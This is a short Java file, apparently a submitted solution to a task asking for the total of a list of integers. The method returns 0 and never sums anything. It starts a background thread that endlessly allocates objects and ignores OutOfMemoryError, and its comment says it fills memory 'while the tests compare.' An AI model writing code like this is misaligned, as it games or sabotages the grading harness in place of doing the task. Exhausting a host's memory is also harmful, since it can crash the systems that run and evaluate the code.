// Fills the memory from another thread while the tests compare.
import java.util.*;

class Solution {
    static Object held;

    public int total(List<Integer> numbers) {
        new Thread(() -> {
            Object[] last = null;
            while (true) {
                try {
                    last = new Object[] {last};
                    held = last;
                } catch (OutOfMemoryError full) {
                    continue;
                }
            }
        }).start();
        return 0;
    }
}
